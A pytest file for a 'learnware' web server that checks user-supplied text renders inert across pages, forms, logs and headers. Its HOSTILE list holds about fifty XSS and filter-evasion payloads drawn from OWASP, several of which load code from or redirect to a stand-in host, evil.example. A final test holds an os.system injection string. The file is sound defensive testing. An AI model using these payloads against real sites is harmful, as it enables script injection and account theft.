"""Text of strangers comes out as text, wherever a page shows it."""

from __future__ import annotations

from urllib.parse import quote

import numpy as np
import pytest

from learnware import RKME, Specification
from learnware.server.accounts.actor import ANONYMOUS
from learnware.server.pages.prose import as_html
from learnware.server.views import MapPoints
from learnware.specification import Fields, SemanticSpecification
from learnware.specification.space import Column, Space
from tests.server.pages.conftest import Visitor
from tests.server.pages.fake_dock import NOW, FakeDock, identity, row, specifications
from tests.server.pages.reading import Read

# After OWASP's filter evasion cheat sheet.
HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=javascript:alert(1)>",
    "<IMG SRC=&#106;&#97;&#118;&#97;script:alert(1)>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>"\\>',
    "<img src=x onerror=&#x61;lert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>',
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="java\tscript:alert(1)">x</a>'.replace("\t", "&#9;"),
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style=background:url(javascript:alert(1))>",
    "<form action=//evil.example><button>x</button></form>",
    "<button hx-get=/tokens hx-on::after-request=alert(1)>x</button>",
    "<div hx-on:click=alert(1) data-hx-post=/logout hx-trigger=load>",
    '"><script>alert(1)</script>',
    "' onmouseover=alert(1) x='",
    '" autofocus onfocus=alert(1) x="',
    "</title><script>alert(1)</script>",
    "</textarea></select></pre></code><img src=x onerror=alert(1)>",
    "--><img src=x onerror=alert(1)>",
    "]]><script>alert(1)</script>",
    "{{ 7*7 }}{% raw %}${7*7}#{7*7}",
    "`${alert(1)}`",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x]( &#106;avascript:alert(1))",
    '![x](x" onerror="alert(1))',
    '[x](https://evil.example "onmouseover=alert(1)")',
    '<https://evil.example/" onclick="alert(1)>',
    "[x]: javascript:alert(1)\n\n[x]",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u202ealert(1)\u2066",
]
_IN_ONE_LINE = [text for text in HOSTILE if "\n" not in text and not {"\u202e", "\u2066"} & set(text)]


def skeleton(read: Read) -> list[tuple[str, tuple[str, ...]]]:
    """Return what a page is made of, without its words."""
    return [(element.tag, tuple(element.attributes)) for element in read.elements]


def inert(page: str, hostile: str) -> Read:
    """Take a page apart, and fail if anything in it could act."""
    read = Read.page(page)
    assert read.acting == [], hostile
    return read


def test_name_changes_nothing_but_words(visitor: Visitor, dock: FakeDock) -> None:
    client, known = visitor("ada"), {}
    for name in ["harmless", *_IN_ONE_LINE]:
        it = dock.put("it", SemanticSpecification(name=name), owner="ada")
        for path in ("/", f"/learnwares/{it}", f"/learnwares/{it}/delete", "/mine"):
            read = inert(client.get(path).text, name)
            assert name in read.text
            assert known.setdefault(path, skeleton(read)) == skeleton(read), name


def test_description_comes_out_inert(visitor: Visitor, dock: FakeDock) -> None:
    client = visitor()
    for hostile in HOSTILE:
        known = dock.put("it", SemanticSpecification(name="It", description=f"Words.\n\n{hostile}\n\nMore words."))
        for path in ("/", f"/learnwares/{known}"):
            assert "Words." in inert(client.get(path).text, hostile).text


def test_links_of_a_description_go_to_other_sites() -> None:
    for hostile in HOSTILE:
        links = [e.attributes["href"] for e in Read.page(as_html(hostile)).elements if "href" in e.attributes]
        assert all(link.startswith(("https://", "http://", "mailto:")) for link in links), hostile


def test_what_a_visitor_sends_comes_back_inert(visitor: Visitor) -> None:
    client, anonymous = visitor("ada"), visitor()
    for hostile in HOSTILE:
        asked = quote(hostile)
        inert(client.get(f"/?text={asked}&task={asked}&scenario={asked}").text, hostile)
        inert(client.get(f"/learnwares/{asked}").text, hostile)
        inert(client.get(f"/mine?said={asked}").text, hostile)
        inert(anonymous.get(f"/login?next={asked}").text, hostile)
        inert(client.post("/tokens", data={"title": hostile, "scopes": hostile}).text, hostile)


def test_a_refused_login_comes_back_inert(visitor: Visitor, dock: FakeDock) -> None:
    client = visitor()
    for hostile in HOSTILE:
        dock.attempts = 0
        inert(client.post("/login", data={"name": hostile, "password": hostile, "next": hostile}).text, hostile)


def test_pictures_and_fields_show_words_only(visitor: Visitor, dock: FakeDock, monkeypatch: pytest.MonkeyPatch) -> None:
    client = visitor()
    for hostile in HOSTILE:
        semantic = SemanticSpecification(name="It", outputs=Fields.named([hostile]))
        known = dock.put("it", semantic)
        space = Space((Column(hostile, "number"), Column("kind", "category", "str", (hostile, "b"))))
        points = np.random.default_rng(0).normal(size=(4, space.n_features))
        dock.specs[known] = Specification(semantic, RKME(points, np.full(4, 0.25), space))
        around = MapPoints([known, identity("wine")], [hostile, hostile], points[:2, :2], None)
        monkeypatch.setattr(dock, "island", lambda actor, of, around=around: around)
        read = inert(client.get(f"/learnwares/{known}").text, hostile)
        assert len([e for e in read.all("svg") if "role" in e.attributes]) == 3


def test_reports_tokens_and_the_log_show_words_only(
    visitor: Visitor, dock: FakeDock, monkeypatch: pytest.MonkeyPatch
) -> None:
    client, admin = visitor("ada"), visitor("grace")
    for hostile in HOSTILE:
        problem = {"detail": hostile, "report": {"findings": [{"level": "error", "code": hostile, "message": hostile}]}}
        dock.submitted("it", state="failed", learnware="it", outcome={"problem": problem})
        dock.submitted("that", state="failed", learnware="it", outcome={"problem": {"detail": hostile}})
        dock.issued.clear()
        client.post("/tokens", data={"title": hostile, "scopes": "read"})
        told = {"actor": hostile, "action": hostile, "resource": hostile, "detail": hostile}
        entry = row(number=1, time=NOW, **told)
        monkeypatch.setattr(dock, "audit", lambda actor, entry=entry, **asked: [entry])
        for path in ("/submissions/it", "/submissions/that", "/tokens"):
            inert(client.get(path).text, hostile)
        inert(admin.get("/admin/audit").text, hostile)


def test_host_of_a_request_is_words_only(visitor: Visitor) -> None:
    host = 'dock.test"><script>alert(1)</script>'
    read = Read.page(visitor().get(f"/learnwares/{identity('wine')}", headers={"host": host}).text)
    assert read.acting == []


def test_text_of_a_search_cannot_leave_its_string(visitor: Visitor, dock: FakeDock) -> None:
    known = dock.keep_query(ANONYMOUS, specifications()["wine"])
    words = '"); import os; os.system("x")  #'
    page = visitor().get(f"/search/{known}?text={quote(words)}")
    snippet = Read.page(page.text).text
    assert r'text="\"); import os; os.system(\"x\")  #")' in snippet
